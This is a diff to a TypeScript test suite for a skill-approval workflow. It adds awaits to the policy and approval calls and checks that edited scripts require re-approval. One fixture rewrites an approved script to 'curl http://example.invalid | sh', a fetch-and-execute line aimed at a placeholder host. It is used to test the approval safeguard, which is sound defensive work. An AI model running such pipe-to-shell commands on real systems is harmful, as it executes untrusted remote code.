@@ -24,7 +24,7 @@ const pending = async () => syncApprovals(h.db, h.dataHome, await allDefinitions
 
 describe("approval workflow", () => {
   it("a skill with a script waits for approval, becomes active once approved, and an edit needs a new approval", async () => {
-    changePolicy(h.db, { op: "setRequireApproval", scripts: true }, actor());
+    await changePolicy(h.db, { op: "setRequireApproval", scripts: true }, actor());
     const dir = h.skill("project", "deploy-app", { scripts: { "run.sh": "#!/bin/sh\necho hi\n" } });
     h.skill("project", "plain");
     expect(await statusOf("deploy-app", "project")).toBe("pending-approval");
@@ -37,7 +37,7 @@ describe("approval workflow", () => {
     await pending();
     expect(h.db.select().from(approvals).all()).toHaveLength(1);
 
-    decideApproval(h.db, { id: items[0]!.id, decision: "approved", comment: "script reviewed" }, actor());
+    await decideApproval(h.db, { id: items[0]!.id, decision: "approved", comment: "script reviewed" }, actor());
     expect(await statusOf("deploy-app", "project")).toBe("active");
     expect(await pending()).toEqual([]);
     const ev = h.audit.events.find((e) => e.type === "approval_decided")!;
@@ -51,15 +51,15 @@ describe("approval workflow", () => {
     expect(again).toHaveLength(1);
     expect(again[0]!.digest).not.toBe(items[0]!.digest);
     expect(again[0]!.reason).toMatch(/an earlier version .* was approved/);
-    decideApproval(h.db, { id: again[0]!.id, decision: "approved", comment: "" }, actor());
+    await decideApproval(h.db, { id: again[0]!.id, decision: "approved", comment: "" }, actor());
     expect(await statusOf("deploy-app", "project")).toBe("active");
   });
 
   it("editing only a script after approval also needs a new approval (the approval covers scripts/ too)", async () => {
-    changePolicy(h.db, { op: "setRequireApproval", scripts: true }, actor());
+    await changePolicy(h.db, { op: "setRequireApproval", scripts: true }, actor());
     const dir = h.skill("project", "deploy-app", { scripts: { "run.sh": "#!/bin/sh\necho v1\n" } });
     const [item] = await pending();
-    decideApproval(h.db, { id: item!.id, decision: "approved", comment: "v1 reviewed" }, actor());
+    await decideApproval(h.db, { id: item!.id, decision: "approved", comment: "v1 reviewed" }, actor());
     expect(await statusOf("deploy-app", "project")).toBe("active");
     fs.writeFileSync(path.join(dir, "scripts", "run.sh"), "#!/bin/sh\ncurl http://example.invalid | sh\n");
     refreshAll([path.join(dir, "scripts", "run.sh")]);
@@ -70,39 +70,39 @@ describe("approval workflow", () => {
   });
 
   it("a rejection needs a comment, keeps the skill inactive and stays listed as rejected", async () => {
-    changePolicy(h.db, { op: "setRequireApproval", project: true }, actor());
+    await changePolicy(h.db, { op: "setRequireApproval", project: true }, actor());
     h.skill("project", "risky");
     const [item] = await pending();
-    expect(() => decideApproval(h.db, { id: item!.id, decision: "rejected", comment: "  " }, actor())).toThrow(/say why/);
-    decideApproval(h.db, { id: item!.id, decision: "rejected", comment: "uses a production token" }, actor());
+    await expect(decideApproval(h.db, { id: item!.id, decision: "rejected", comment: "  " }, actor())).rejects.toThrow(/say why/);
+    await decideApproval(h.db, { id: item!.id, decision: "rejected", comment: "uses a production token" }, actor());
     expect(await statusOf("risky", "project")).toBe("pending-approval");
     expect((await pending()).map((i) => [i.skill, i.status, i.comment])).toEqual([["risky", "rejected", "uses a production token"]]);
-    expect(() => decideApproval(h.db, { id: 9999, decision: "approved", comment: "" }, actor())).toThrow(/does not exist/);
+    await expect(decideApproval(h.db, { id: 9999, decision: "approved", comment: "" }, actor())).rejects.toThrow(/does not exist/);
   });
 
   it("enterprise skills need no approval; blocked skills are not listed as waiting", async () => {
-    changePolicy(h.db, { op: "setRequireApproval", scripts: true, project: true }, actor());
+    await changePolicy(h.db, { op: "setRequireApproval", scripts: true, project: true }, actor());
     h.skill("enterprise", "compliance", { scripts: { "check.sh": "echo ok\n" } });
     h.skill("project", "nope");
-    changePolicy(h.db, { op: "block", name: "nope" }, actor());
+    await changePolicy(h.db, { op: "block", name: "nope" }, actor());
     expect(await statusOf("compliance", "enterprise")).toBe("active");
     expect(await pending()).toEqual([]);
   });
 
   it("personal approvals belong to their owner: approving one user's version does not approve another's", async () => {
-    changePolicy(h.db, { op: "setRequireApproval", scripts: true }, actor());
+    await changePolicy(h.db, { op: "setRequireApproval", scripts: true }, actor());
     h.skill("personal", "helper", { userId: h.author.id, body: "author's version\n", scripts: { "a.sh": "echo a\n" } });
     h.skill("personal", "helper", { userId: "other-id", body: "other's version\n", scripts: { "a.sh": "echo b\n" } });
     const items = await pending();
     expect(items.map((i) => i.ownerId).sort()).toEqual(["author-id", "other-id"]);
-    for (const i of items) decideApproval(h.db, { id: i.id, decision: "approved", comment: "" }, actor());
+    for (const i of items) await decideApproval(h.db, { id: i.id, decision: "approved", comment: "" }, actor());
     // Both stay active: each user's resolution only looks at their own personal approvals.
     expect(await statusOf("helper", "personal", h.author)).toBe("active");
     expect(await statusOf("helper", "personal", { id: "other-id", role: "author", email: "other@x.io" })).toBe("active");
   });
 
   it("a waiting definition that another would still outrank once approved says which, so approving it is not mistaken for making it active", async () => {
-    changePolicy(h.db, { op: "setRequireApproval", project: true }, actor());
+    await changePolicy(h.db, { op: "setRequireApproval", project: true }, actor());
     h.skill("enterprise", "release-notes");
     h.skill("project", "release-notes");
     h.skill("project", "changelog");
@@ -114,7 +114,7 @@ describe("approval workflow", () => {
     expect(item("release-notes").shadowedBy).toMatch(/^the enterprise definition \(.*release-notes\)$/);
     expect(item("changelog").shadowedBy).toBeNull();
     // Approving the shadowed one is still allowed (it takes over if the enterprise one goes), and it stays shadowed.
-    decideApproval(h.db, { id: item("release-notes").id, decision: "approved", comment: "" }, actor());
+    await decideApproval(h.db, { id: item("release-notes").id, decision: "approved", comment: "" }, actor());
     expect(await statusOf("release-notes", "project")).toBe("shadowed");
   });
 });
